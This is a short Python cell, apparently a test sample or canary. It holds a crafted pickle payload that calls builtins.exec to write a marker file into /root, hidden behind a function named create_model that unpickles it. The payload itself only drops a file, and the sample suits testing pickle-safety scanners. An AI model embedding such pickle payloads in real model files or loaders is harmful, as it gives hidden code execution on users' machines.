# %%
import pickle

TEXT = b"cbuiltins\nexec\n(Vimport pathlib; (pathlib.Path('/root') / 'LOADED-code.txt').write_text('x')\ntR."


def create_model():
    return pickle.loads(TEXT)
